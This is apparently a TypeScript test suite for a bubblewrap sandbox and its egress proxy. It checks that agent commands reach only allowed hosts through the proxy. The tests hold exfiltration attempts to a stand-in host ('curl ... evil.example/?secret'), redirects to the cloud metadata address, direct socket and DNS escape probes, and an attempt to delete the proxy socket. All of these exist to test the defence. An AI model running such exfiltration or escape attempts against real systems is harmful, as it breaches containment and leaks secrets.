// A command in the sandbox and the network: what it reaches by the run's proxy, with the programs that people use, and that
// there is no other way out.

import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { rm } from "node:fs/promises";
import { type AddressInfo, createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { RunEgress } from "../../../src/service/core/egress/run-egress.ts";
import type { Sandbox } from "../../../src/service/core/ports/sandbox.ts";
import { EgressFixture } from "../egress/egress-fixture.ts";
import { SandboxFixture } from "./sandbox-fixture.ts";

describe("a command and the network", { tags: ["sandbox"] }, () => {
  let fixture: SandboxFixture;
  let net: EgressFixture;
  let sandbox: Sandbox;
  let shown: string;
  beforeEach(async () => {
    fixture = new SandboxFixture();
    net = new EgressFixture();
    await net.start();
    shown = mkdtempSync(join(tmpdir(), "egress-ca-"));
    chmodSync(shown, 0o755);
    const ca = join(shown, "ca.pem");
    writeFileSync(ca, net.identity.cert);
    sandbox = await fixture.find({
      environment: {
        SANDBOX: "bubblewrap",
        SANDBOX_READ_PATHS: shown,
        SANDBOX_ENV: "CURL_CA_BUNDLE,NODE_EXTRA_CA_CERTS,npm_config_cafile,GIT_SSL_CAINFO,PIP_CERT",
        CURL_CA_BUNDLE: ca,
        NODE_EXTRA_CA_CERTS: ca,
        npm_config_cafile: ca,
        GIT_SSL_CAINFO: ca,
        PIP_CERT: ca,
      },
    });
  });
  afterEach(async () => {
    await net.close();
    await fixture.close();
    await rm(shown, { recursive: true, force: true });
  });

  const at = (host: string) => `https://${host}:${net.port}`;
  const run = async (egress: RunEgress | null, shell: string) => {
    const egressSocket = egress === null ? null : await egress.socket("agent");
    const { output, exitCode } = await fixture.result(sandbox, shell, { egressSocket });
    return { output, exitCode };
  };

  it("reaches a host of the policy by curl, and is told of one that is blocked", async () => {
    const egress = net.open(["registry.example:PORT"]);
    expect(await run(egress, `curl -sS ${at("registry.example")}/a`)).toEqual({
      output: "hello",
      exitCode: 0,
    });
    const blocked = await run(egress, "curl -sS https://evil.example/?secret");
    expect(blocked.output).toContain("403");
    expect(blocked.exitCode).not.toBe(0);
    const plain = await run(egress, "curl -sS http://registry.example/");
    expect(plain.output).toContain("it is not encrypted. Use https.");
    expect(net.arrived).toEqual([`registry.example:${net.port}/a`]);
    expect(egress.record().blocked).toEqual([
      { host: "evil.example", times: 1, reason: "not_allowed" },
      { host: "registry.example:80", times: 1, reason: "plain_http" },
    ]);
  });

  it("reaches a host that redirects it elsewhere, and not the place that it redirects to", async () => {
    net.respond = (request, response) => {
      const to = request.url === "/private" ? "https://169.254.169.254/latest" : at("evil.example");
      response.writeHead(302, { location: to }).end();
    };
    const egress = net.open(["registry.example:PORT"]);
    for (const path of ["/private", "/other"]) {
      const { exitCode } = await run(egress, `curl -sSL ${at("registry.example")}${path}`);
      expect(exitCode).not.toBe(0);
    }
    expect(net.arrived).toHaveLength(2);
    expect(egress.record().blocked.map(({ host }) => host)).toEqual([
      "169.254.169.254",
      `evil.example:${net.port}`,
    ]);
  });

  it("has no other way out: no address, no name server, no socket of this machine", async () => {
    const tcp = createServer((socket) => socket.end("REACHED"));
    tcp.listen(0, "127.0.0.1");
    await once(tcp, "listening");
    const udp = createSocket("udp4");
    let datagrams = 0;
    udp.on("message", () => {
      datagrams += 1;
    });
    udp.bind(0, "127.0.0.1");
    await once(udp, "listening");
    const abstract = createServer((socket) => socket.end("REACHED"));
    const name = `\0egress-${process.pid}-${tcp.address() === null ? 0 : (tcp.address() as AddressInfo).port}`;
    abstract.listen(name);
    await once(abstract, "listening");
    try {
      const egress = net.open(["registry.example:PORT"]);
      const program = `
const net = require("node:net"), dgram = require("node:dgram"), dns = require("node:dns");
const say = (what) => console.log(what);
const to = (options) => new Promise((done) => {
  const socket = net.connect(options);
  socket.setTimeout(2000, () => { say("TIMEOUT"); socket.destroy(); done(); });
  socket.on("connect", () => { say("CONNECTED " + JSON.stringify(options)); socket.destroy(); done(); });
  socket.on("error", (cause) => { say(cause.code); done(); });
});
const send = (port, host) => new Promise((done) => {
  const socket = dgram.createSocket("udp4");
  socket.send("secret", port, host, (cause) => { say(cause?.code ?? "SENT"); socket.close(); done(); });
});
(async () => {
  await to({ host: "127.0.0.1", port: ${(tcp.address() as AddressInfo).port} });
  await to({ host: "169.254.169.254", port: 80 });
  await to({ host: "8.8.8.8", port: 443 });
  await to({ host: "2606:4700:4700::1111", port: 443 });
  await to({ path: ${JSON.stringify(name)} });
  await send(53, "8.8.8.8");
  await send(${udp.address().port}, "127.0.0.1");
  await dns.promises.lookup("registry.example").then(() => say("RESOLVED"), (cause) => say(cause.code));
  const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 });
  resolver.setServers(["8.8.8.8"]);
  await resolver.resolve4("registry.example").then(() => say("RESOLVED"), (cause) => say(cause.code));
})();`;
      writeFileSync(join(fixture.checkout.root, "escape.cjs"), program);
      const { output } = await run(
        egress,
        "unset NODE_USE_ENV_PROXY; node escape.cjs; ls /sys/class/net; ls -A /run /run/relay",
      );
      expect(output).not.toMatch(/CONNECTED|RESOLVED|TIMEOUT|eth|ens/);
      // Its own loopback takes a datagram to nobody.
      expect(output.match(/SENT/g) ?? []).toHaveLength(1);
      expect(output).toMatch(
        /ECONNREFUSED\nENETUNREACH\nENETUNREACH\nENETUNREACH\nECONNREFUSED\nENETUNREACH\nSENT\n/,
      );
      expect(datagrams).toBe(0);
      expect(egress.record()).toEqual({ allowed: [], blocked: [] });
    } finally {
      tcp.close();
      udp.close();
      abstract.close();
    }
  });

  it("cannot replace the socket of its proxy", async () => {
    const egress = net.open(["registry.example:PORT"]);
    const { output } = await run(
      egress,
      `rm -f /run/relay/4142/egress.sock; touch /run/relay/4142/x; ls -A /run/relay/4142; curl -sS ${at("registry.example")}`,
    );
    expect(output).toMatch(/Read-only file system[\s\S]*egress\.sock\nhello$/);
  });

  it("has no network without a socket, nor once the run has ended", async () => {
    expect(
      (await run(null, `env | grep -ciE "https?_proxy"; curl -sS ${at("registry.example")}`)).output,
    ).toMatch(/^0\n.*Could not resolve host/);
    const egress = net.open(["registry.example:PORT"]);
    const egressSocket = await egress.socket("agent");
    const running = fixture.result(
      sandbox,
      `curl -sS ${at("registry.example")}; touch ready; while [ ! -e go ]; do sleep 0.05; done; curl -sS ${at("registry.example")}`,
      { egressSocket },
    );
    await expect.poll(() => existsSync(join(fixture.checkout.root, "ready"))).toBe(true);
    await egress.close();
    writeFileSync(join(fixture.checkout.root, "go"), "");
    const { output, exitCode } = await running;
    expect(output).toMatch(/^hello/);
    expect(output).not.toMatch(/hello[\s\S]*hello/);
    expect(exitCode).not.toBe(0);
    expect(net.arrived).toHaveLength(1);
  });

  it("keeps its exit code, its input and its limits beside the relay", async () => {
    const egress = net.open(["registry.example:PORT"]);
    const egressSocket = await egress.socket("agent");
    expect((await fixture.result(sandbox, "exit 7", { egressSocket })).exitCode).toBe(7);
    expect((await fixture.result(sandbox, "kill -TERM $$", { egressSocket })).exitCode).toBe(143);
    expect((await fixture.result(sandbox, "cat", { egressSocket, stdin: "given" })).output).toBe("given");
    expect(
      (await fixture.result(sandbox, "kill -9 $PPID; sleep 60", { egressSocket })).durationMs,
    ).toBeLessThan(30_000);
    const small = await fixture.find({ limits: { processes: 16, memoryBytes: 64 * 1024 * 1024 } });
    expect((await fixture.result(small, "sleep 0.5; echo done", { egressSocket })).output).toBe("done\n");
    const greedy = await fixture.result(small, "for i in $(seq 60); do sleep 30 & done; wait", {
      egressSocket,
    });
    expect(greedy.limit ?? greedy.output).toMatch(/processes|fork|Resource temporarily unavailable/);
    const slow = await fixture.result(sandbox, "sleep 60", { egressSocket, timeoutMs: 300 });
    expect(slow.limit).toBe("time");
  });

  it("installs a package by npm", async () => {
    const tarball = packed("left", { name: "left", version: "1.0.0", main: "index.js" });
    net.respond = (request, response) => {
      if (request.url === "/left")
        response.setHeader("content-type", "application/json").end(packument(tarball));
      else if (request.url === "/left/-/left-1.0.0.tgz") response.end(tarball);
      else response.writeHead(404).end("{}");
    };
    const packument = (bytes: Buffer) =>
      JSON.stringify({
        name: "left",
        "dist-tags": { latest: "1.0.0" },
        versions: {
          "1.0.0": {
            name: "left",
            version: "1.0.0",
            dist: {
              tarball: `${at("registry.example")}/left/-/left-1.0.0.tgz`,
              integrity: `sha512-${createHash("sha512").update(bytes).digest("base64")}`,
            },
          },
        },
      });
    const egress = net.open(["registries"]);
    const { output, exitCode } = await run(
      egress,
      `npm install --no-audit --no-fund --no-update-notifier --registry ${at("registry.example")}/ left && node -p 'require("left")'`,
    );
    expect(output).toMatch(/added 1 package[\s\S]*from the registry/);
    expect(exitCode).toBe(0);
    expect(egress.record()).toMatchObject({
      allowed: [{ host: `registry.example:${net.port}` }],
      blocked: [],
    });
  });

  it("installs a package by pip", { tags: ["pip"] }, async () => {
    const wheel = wheelOf("left");
    net.respond = (request, response) => {
      if (request.url === "/simple/left/") {
        response
          .setHeader("content-type", "text/html")
          .end('<a href="/files/left-1.0-py3-none-any.whl">left</a>');
      } else if (request.url === "/files/left-1.0-py3-none-any.whl") response.end(wheel);
      else response.writeHead(404).end();
    };
    const egress = net.open(["registries"]);
    const { output, exitCode } = await run(
      egress,
      `/usr/bin/python3 -m pip install --target here --no-cache-dir --disable-pip-version-check --index-url ${at("registry.example")}/simple left && PYTHONPATH=here /usr/bin/python3 -c 'import left; print(left.text)'`,
    );
    expect(output).toMatch(/Successfully installed left-1\.0\n[\s\S]*from the index/);
    expect(exitCode).toBe(0);
  });

  it("clones by git", async () => {
    const source = join(fixture.dataDir, "source");
    mkdirSync(source);
    const git = (...args: string[]) =>
      execFileSync("git", ["-c", "user.name=a", "-c", "user.email=a@b.example", ...args], { cwd: source });
    git("init", "-q", "-b", "main");
    writeFileSync(join(source, "file.txt"), "from the repository");
    git("add", ".");
    git("commit", "-qm", "one");
    git("update-server-info");
    net.respond = (request, response) => {
      const path = (request.url ?? "").split("?")[0] ?? "";
      try {
        response.end(readFileSync(join(source, ".git", path.replace(/^\/repository\.git/, ""))));
      } catch {
        response.writeHead(404).end();
      }
    };
    const egress = net.open(["files.example:PORT"]);
    const { output, exitCode } = await run(
      egress,
      `git clone -q ${at("files.example")}/repository.git copy && cat copy/file.txt`,
    );
    expect(output).toBe("from the repository");
    expect(exitCode).toBe(0);
  });

  it("fetches by Node's own fetch, without a word of the proxy in the program", async () => {
    const egress = net.open(["registry.example:PORT"]);
    writeFileSync(
      join(fixture.checkout.root, "fetch.mjs"),
      `console.log(await (await fetch("${at("registry.example")}/x")).text())`,
    );
    const { output } = await run(
      egress,
      `${process.execPath.startsWith("/usr/") ? process.execPath : "node"} fetch.mjs`,
    );
    // Node 20 has no proxy of its own.
    expect(output).toMatch(nodeOfSandbox() >= 24 ? /^hello\n$/ : /fetch failed/);
  });
});

function nodeOfSandbox(): number {
  return Number(
    /^v(\d+)/.exec(
      execFileSync("/usr/bin/env", ["-S", "node", "--version"], {
        env: { PATH: "/usr/local/bin:/usr/bin:/bin" },
      }).toString(),
    )?.[1] ?? 0,
  );
}

/** A package as npm has it. */
function packed(name: string, manifest: object): Buffer {
  const folder = mkdtempSync(join(tmpdir(), "package-"));
  mkdirSync(join(folder, "package"));
  writeFileSync(join(folder, "package", "package.json"), JSON.stringify(manifest));
  writeFileSync(join(folder, "package", "index.js"), 'module.exports = "from the registry";');
  execFileSync("tar", ["-czf", `${name}.tgz`, "package"], { cwd: folder });
  const bytes = readFileSync(join(folder, `${name}.tgz`));
  execFileSync("rm", ["-rf", folder]);
  return bytes;
}

/** A wheel: a zip archive with a module in it. */
function wheelOf(name: string): Buffer {
  const folder = mkdtempSync(join(tmpdir(), "wheel-"));
  const program = `
import zipfile
with zipfile.ZipFile("${name}.whl", "w") as made:
    made.writestr("${name}.py", "text = 'from the index'")
    info = "${name}-1.0.dist-info/"
    made.writestr(info + "METADATA", "Metadata-Version: 2.1\\nName: ${name}\\nVersion: 1.0\\n")
    made.writestr(info + "WHEEL", "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
    made.writestr(info + "RECORD", "")
`;
  execFileSync("/usr/bin/python3", ["-c", program], { cwd: folder });
  const bytes = readFileSync(join(folder, `${name}.whl`));
  execFileSync("rm", ["-rf", folder]);
  return bytes;
}
